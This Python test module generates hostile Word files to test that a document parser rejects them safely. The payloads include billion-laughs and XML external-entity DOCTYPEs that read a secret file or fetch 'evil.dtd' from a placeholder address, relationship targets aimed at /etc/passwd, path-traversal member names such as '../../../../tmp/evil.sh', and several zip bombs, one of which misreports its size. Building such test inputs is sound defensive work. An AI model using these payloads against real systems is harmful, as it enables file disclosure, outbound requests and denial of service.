"""Word files: bombs, entities, names of members that lead elsewhere, and zip files that are something else."""

import functools
import io
import zipfile
from collections.abc import Iterator, Mapping

from tests.cases import files
from tests.hostile.inputs.bad import (
    ADDRESS,
    DONE,
    EMPTY,
    ENCRYPTED,
    SECRET_FILE,
    TOO_LARGE,
    UNREADABLE,
    UNSUPPORTED,
    Bad,
    bad,
)

RUN = "<w:p><w:r><w:t>Total 12</w:t></w:r></w:p>"
DOCUMENT, TYPES = "word/document.xml", "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"


@functools.cache
def _members() -> Mapping[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(files.word(["Total 12"]))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(members: Mapping[str, bytes | None]) -> bytes:
    """A zip file of members by name; None leaves one out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if data is not None:
                archive.writestr(name, data)
    return buffer.getvalue()


def changed(**members: bytes | None) -> bytes:
    """A good Word file but for these members; `document`, `types`, `relations`, `extra`."""
    names = {"document": DOCUMENT, "types": TYPES, "relations": RELATIONS}
    return packed({**_members(), **{names.get(name, name): data for name, data in members.items()}})


def _relation(target: str, mode: str = "") -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
    entry = f'<Relationship Id="rId99" Type="{kind}" Target="{target}" {mode}/>'
    return _members()[RELATIONS].replace(b"</Relationships>", entry.encode() + b"</Relationships>")


def _lying_size() -> bytes:
    """A bomb whose directory says that it is small."""
    data = files.word_with_body("<w:p/>" * 8_000_000)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        size = archive.getinfo(DOCUMENT).file_size
    return data.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def _flagged() -> bytes:
    """Members that say that they have a password."""
    data = bytearray(files.word(["Total 12"]))
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            data[start + at] |= 1
            start = data.find(signature, start + 4)
    return bytes(data)


LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
DOCTYPES = {
    "laughs": (f"{LAUGHS}]>", "&a9;"),
    "file": (f"<!DOCTYPE x [<!ENTITY x SYSTEM 'file://{SECRET_FILE}'>]>", "&x;"),
    "network": (f"<!DOCTYPE x [<!ENTITY x SYSTEM 'http://{ADDRESS}/'>]>", "&x;"),
    "dtd": (f"<!DOCTYPE x SYSTEM 'http://{ADDRESS}/evil.dtd'>", ""),
    "parameter": (f"<!DOCTYPE x [<!ENTITY % x SYSTEM 'http://{ADDRESS}/evil.dtd'> %x;]>", ""),
}
TARGETS = {
    "above": "../../../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "file": f"file://{SECRET_FILE}",
    "itself": "document.xml",
    "nowhere": "nowhere.xml",
    "empty": "",
    "long": "x" * 100_000,
}
NAMES = {
    "above": "../../../../tmp/evil.sh",
    "absolute": "/tmp/evil.sh",
    "newline": "word/a\nb.xml",
    "drive": "C:\\evil.exe",
    "backslash": "word\\..\\..\\evil.xml",
    "long": "x" * 60_000,
}
PACKAGES = {
    "sheet.xlsx": {"xl/workbook.xml": b"<a/>"},
    "slides.pptx": {"ppt/presentation.xml": b"<a/>"},
    "text.odt": {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"},
    "code.jar": {"META-INF/MANIFEST.MF": b""},
    "nothing.zip": {},
}


def inputs() -> Iterator[Bad]:
    for percent in (1, 10, 30, 50, 70, 90, 99):
        cut = functools.partial(lambda part: (data := files.word(["x"]))[: len(data) * part // 100], percent)
        yield bad(f"cut_{percent}.docx", cut, UNREADABLE)
    for name, (doctype, body) in DOCTYPES.items():
        made = functools.partial(files.word_with_body, RUN.replace("12", f"12 {body}"), doctype)
        yield bad(f"doctype_{name}.docx", made, DONE, UNREADABLE)
    for name, target in TARGETS.items():
        made = functools.partial(lambda to: changed(relations=_relation(to)), target)
        yield bad(f"target_{name}.docx", made, DONE, UNREADABLE)
    remote = functools.partial(
        lambda: changed(relations=_relation(f"http://{ADDRESS}/", 'TargetMode="External"'))
    )
    yield bad("target_remote.docx", remote, DONE, UNREADABLE)
    for name, member in NAMES.items():
        made = functools.partial(lambda extra: packed({**_members(), extra: b"x"}), member)
        yield bad(f"name_{name}.docx", made, DONE, UNREADABLE)
    for name, members in PACKAGES.items():
        yield bad(name, functools.partial(packed, members), UNSUPPORTED)
    yield from _bodies()
    yield from _bombs()


def _bodies() -> Iterator[Bad]:
    bodies = {
        "tables": "<w:tbl><w:tr><w:tc>" * 3000 + RUN + "</w:tc></w:tr></w:tbl>" * 3000,
        "controls": "<w:sdt><w:sdtContent>" * 3000 + RUN + "</w:sdtContent></w:sdt>" * 3000,
        "elements": "<w:p>" * 100_000,
        "characters": "<w:p><w:r><w:t>&#0;&#xD800;</w:t></w:r></w:p>",
        "prefix": "<x:p>Total 12</x:p>",
        "nothing": "",
    }
    for name, body in bodies.items():
        yield bad(f"body_{name}.docx", functools.partial(files.word_with_body, body), DONE, EMPTY, UNREADABLE)
    missing = {"document": DOCUMENT, "types": TYPES, "relations": "_rels/.rels"}
    for name, member in missing.items():
        made = functools.partial(lambda out: packed({**_members(), out: None}), member)
        yield bad(f"missing_{name}.docx", made, UNREADABLE, UNSUPPORTED)
    yield bad("no_xml.docx", lambda: changed(document=b"\xff\xfe\0 no xml"), UNREADABLE)
    yield bad("wide_xml.docx", lambda: changed(document=_members()[DOCUMENT].decode().encode("utf-16")), DONE)
    yield bad("flagged.docx", _flagged, UNREADABLE, ENCRYPTED)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
    yield bad("locked.docx", ole, ENCRYPTED)


def _bombs() -> Iterator[Bad]:
    yield bad("bomb_of_paragraphs.docx", lambda: files.word_with_body("<w:p/>" * 8_000_000), TOO_LARGE)
    yield bad(
        "bomb_beside.docx", lambda: packed({**_members(), "word/media/a.bin": bytes(60_000_000)}), TOO_LARGE
    )
    yield bad("bomb_that_lies.docx", _lying_size, UNREADABLE, TOO_LARGE, EMPTY)
    inside = functools.cache(lambda: packed({"a": bytes(30_000_000)}))
    yield bad("bomb_in_bomb.docx", lambda: packed({**_members(), "word/a.zip": inside()}), DONE)
    many = functools.cache(lambda: {f"word/{number}.xml": b"<a/>" for number in range(10_000)})
    yield bad("members.docx", lambda: packed({**_members(), **many()}), DONE, UNREADABLE)
    text = "<w:p><w:r><w:t>" + "x" * 3_000_000 + "</w:t></w:r></w:p>"
    yield bad("text_of_3_mb.docx", lambda: files.word_with_body(text), TOO_LARGE)
    yield bad("paragraphs.docx", lambda: files.word_with_body(RUN * 100_000), DONE)
